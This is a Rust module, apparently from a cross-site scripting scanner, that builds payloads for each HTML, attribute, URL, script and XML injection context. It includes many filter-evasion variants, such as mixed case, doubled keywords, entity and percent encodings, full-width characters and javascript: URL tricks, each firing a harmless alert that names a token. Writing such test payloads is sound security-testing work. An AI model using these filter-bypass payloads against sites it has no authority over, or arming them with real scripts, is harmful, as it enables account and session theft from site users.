//! Values that break out of a context and run a harmless call which names the token.

use crate::markup::context::{Context, InScript};
use crate::markup::html::Quote;
use crate::markup::proof::own_host;
use crate::markup::script::Kind;

/// Elements that run a call, commonest first; later ones slip through filters of the earlier.
pub(crate) fn elements(t: &str) -> Vec<String> {
    vec![
        format!("<img src=x onerror=alert(/{t}/)>"),
        format!("<script>alert(/{t}/)</script>"),
        format!("<svg/onload=alert`{t}`>"),
        format!("<ScRiPt>alert(/{t}/)</sCrIpT>"),
        format!("<details open ontoggle=confirm(/{t}/)>"),
        // Upper case, forbidden words and brackets: references in an attribute are decoded before it runs.
        format!("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#96;{t}&#96;>"),
        // Filters that remove a word once.
        format!("<scr<script>ipt>alert(/{t}/)</scr</script>ipt>"),
        format!("<scrscriptipt>alert(/{t}/)</scrscriptipt>"),
        format!("<img src=x ononerrorerror=alert(/{t}/)>"),
        format!("<a href=\"javascript:alert(/{t}/)\">{t}</a>"),
        // Filters that look for `on…=` after a space on one line.
        format!("<svg\nonload\n=alert`{t}`>"),
        format!("<<script>alert(/{t}/)//<</script>"),
        format!("<script src=//{}></script>", own_host(t)),
        format!("<iframe srcdoc=\"&lt;img src=x onerror=alert(/{t}/)&gt;\"></iframe>"),
        format!("<img src=x onerror=alert(/{t}/) "),
        format!("<form action=//{}>", own_host(t)),
    ]
}

/// The same behind codings that an application may undo after it has looked.
fn encoded(prefix: &str, t: &str) -> Vec<String> {
    let plain = format!("{prefix}<img src=x onerror=alert(/{t}/)>");
    let with =
        |pairs: &[(&str, &str)]| pairs.iter().fold(plain.clone(), |text, (from, to)| text.replace(from, to));
    vec![
        with(&[("<", "%3C"), (">", "%3E"), ("\"", "%22"), ("'", "%27")]),
        with(&[("<", "&lt;"), (">", "&gt;"), ("\"", "&quot;"), ("'", "&#39;")]),
        with(&[("<", "\\u003c"), (">", "\\u003e"), ("\"", "\\u0022"), ("'", "\\u0027")]),
        // Full-width forms, which normalisation turns into the plain ones.
        with(&[("<", "＜"), (">", "＞"), ("\"", "＂"), ("'", "＇")]),
        with(&[("<", "%253C"), (">", "%253E"), ("\"", "%2522"), ("'", "%2527")]),
    ]
}

/// The shortest payload of a context, for values that are cut.
pub(crate) fn brief(context: &Context, t: &str) -> Option<String> {
    let element = format!("<svg onload=alert`{t}`>");
    match context {
        Context::Text { in_select: false, inert: false } => Some(element),
        Context::Attribute(quote) if *quote != Quote::None => {
            Some(format!("{q} onclick=alert`{t}` {q}", q = quote.text()))
        }
        Context::Script(InScript { kind: Kind::Single, .. }) => Some(format!("'-alert`{t}`-'")),
        Context::Script(InScript { kind: Kind::Double, .. }) => Some(format!("\"-alert`{t}`-\"")),
        _ => None,
    }
}

/// The payloads of a context.
pub(crate) struct Payloads {
    /// What breaks out directly.
    pub(crate) plain: Vec<String>,
    /// What breaks out if a coding is undone.
    pub(crate) encoded: Vec<String>,
    /// The character without which `plain` is pointless, if there is one.
    pub(crate) needs: Option<char>,
}

/// The payloads of `context`.
pub(crate) fn payloads(context: &Context, t: &str) -> Payloads {
    let behind = |prefix: &str| elements(t).into_iter().map(|e| format!("{prefix}{e}")).collect::<Vec<_>>();
    let out = |plain, prefix: &str, needs| Payloads { plain, encoded: encoded(prefix, t), needs };
    match context {
        Context::Text { in_select, inert } => {
            let prefix = match (in_select, inert) {
                (true, _) => "</option></select>",
                (_, true) => "</template>",
                _ => "",
            };
            out(behind(prefix), prefix, Some('<'))
        }
        Context::Raw(name) => {
            let prefix = format!("</{name}>");
            out(behind(&prefix), &prefix, Some('<'))
        }
        Context::Comment => {
            let mut plain = behind("-->");
            plain.insert(2, format!("--!><img src=x onerror=alert(/{t}/)>"));
            out(plain, "-->", Some('>'))
        }
        Context::TagName => {
            let mut plain =
                vec![format!("img src=x onerror=alert(/{t}/) "), format!("svg/onload=alert`{t}` ")];
            plain.extend(behind("b>"));
            out(plain, "b>", None)
        }
        Context::AttributeName => {
            let mut plain =
                vec![format!("x onpointerenter=alert(/{t}/) "), format!("autofocus\nonfocus=alert`{t}` ")];
            plain.extend(behind(">"));
            out(plain, ">", None)
        }
        Context::Attribute(quote) | Context::Style(quote) => attribute(*quote, t),
        Context::Srcdoc(_) => Payloads { plain: elements(t), encoded: Vec::new(), needs: None },
        Context::Url(_) => Payloads { plain: addresses(t), encoded: Vec::new(), needs: None },
        Context::Handler(_, script) => {
            let entities = |p: &String| p.replace('\'', "&#39;").replace('"', "&quot;");
            let plain = code(script, t);
            let encoded = plain.iter().take(4).map(entities).collect();
            Payloads { plain, encoded, needs: None }
        }
        Context::Script(script) => in_script(script, t),
    }
}

fn attribute(quote: Quote, t: &str) -> Payloads {
    let q = quote.text();
    let close = if quote == Quote::None { "x>".to_owned() } else { format!("{q}>") };
    let x = if quote == Quote::None { "x" } else { "" };
    let mut plain = vec![
        format!("{close}<img src=x onerror=alert(/{t}/)>"),
        format!("{x}{q} autofocus onfocus=alert(/{t}/) x={q}"),
        format!("{x}{q}\tonpointerenter\n=alert`{t}` x={q}"),
        format!("{x}{q} onmouseover={q}&#97;&#108;&#101;&#114;&#116;&#96;{t}&#96;{q} x={q}"),
        format!("{x}{q} ononfocusfocus=alert(/{t}/) autofocus x={q}"),
        format!("{x}{q}/onclick=alert`{t}`/x={q}"),
    ];
    plain.extend(elements(t).into_iter().skip(1).map(|e| format!("{close}{e}")));
    let needs = q.chars().next();
    Payloads { plain, encoded: encoded(&close, t), needs }
}

/// Addresses that run a call when they are followed.
fn addresses(t: &str) -> Vec<String> {
    vec![
        format!("javascript:alert(/{t}/)"),
        format!("JaVaScRiPt:alert`{t}`"),
        format!("java\tscript:alert(/{t}/)"),
        format!("\u{1}javascript:alert(/{t}/)"),
        format!("&#106;avascript:alert(/{t}/)"),
        format!("javajavascript:script:alert(/{t}/)"),
        format!("javascript://http://x/%0aalert(/{t}/)"),
        format!("javascript:alert(/{t}/)//http://x/"),
        format!("javascript&colon;alert(/{t}/)"),
    ]
}

/// What runs a call from within a script.
fn code(script: &InScript, t: &str) -> Vec<String> {
    let quoted = |q: &str| {
        let mut all = vec![format!("{q}-alert(/{t}/)-{q}"), format!("\\{q}-alert(/{t}/)//")];
        for close in [&script.to_statement, &script.to_top] {
            all.push(format!("{q}{close};alert(/{t}/)//"));
            all.push(format!("\\{q}{close};alert(/{t}/)//"));
            all.push(format!("\\{q}{close};alert`{t}`//"));
        }
        all.push(format!("{q}-alert`{t}`-{q}"));
        all.push(format!("{q};alert(/{t}/);{q}"));
        all
    };
    let mut all = match script.kind {
        Kind::Single => quoted("'"),
        Kind::Double => quoted("\""),
        Kind::Template => {
            vec![format!("${{alert(/{t}/)}}"), format!("`-alert(/{t}/)-`"), format!("${{alert`{t}`}}")]
        }
        Kind::Regex => {
            let close = &script.to_statement;
            vec![format!("/-alert(\"{t}\")-/"), format!("/{close};alert(/{t}/)//"), format!("/-alert`{t}`-/")]
        }
        Kind::Line => vec![
            format!("\nalert(/{t}/)//"),
            format!("\ralert(/{t}/)//"),
            format!("\u{2028}alert(/{t}/)//"),
            format!("\nalert`{t}`//"),
        ],
        Kind::Block => vec![format!("*/alert(/{t}/)/*"), format!("*/alert`{t}`/*")],
        Kind::Code => vec![
            format!("alert(/{t}/)"),
            format!("1-alert(/{t}/)"),
            format!("1;alert(/{t}/)//"),
            format!("alert`{t}`"),
            format!("1{};alert(/{t}/)//", script.to_statement),
            format!("1{};alert(/{t}/)//", script.to_top),
            format!("x;alert(/{t}/);x"),
        ],
    };
    let mut seen = std::collections::BTreeSet::new();
    all.retain(|p| seen.insert(p.clone()));
    all
}

fn in_script(script: &InScript, t: &str) -> Payloads {
    let mut plain = code(script, t);
    // Where quotes are escaped, the end of the element still ends the script.
    let at = plain.len().min(1);
    plain.insert(at, format!("</script><img src=x onerror=alert(/{t}/)>"));
    plain.insert(at + 1, format!("</ScRiPt ><svg/onload=alert`{t}`>"));
    let q = match script.kind {
        Kind::Double => "\"",
        _ => "'",
    };
    let escape = if q == "\"" { "\\u0022" } else { "\\u0027" };
    let encoded = vec![
        format!("%3C/script%3E%3Cimg src=x onerror=alert(/{t}/)%3E"),
        format!("&lt;/script&gt;&lt;img src=x onerror=alert(/{t}/)&gt;"),
        format!("{escape}-alert(/{t}/)-{escape}").replace("\\u00", "%"),
    ];
    Payloads { plain, encoded, needs: None }
}

/// Documents of XML in which a script runs.
pub(crate) fn xml(t: &str) -> Vec<String> {
    let script = format!("<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(/{t}/)</x:script>");
    vec![
        script.clone(),
        format!("]]>{script}<![CDATA["),
        format!("\"/>{script}"),
        format!("<script>alert(/{t}/)</script>"),
    ]
}
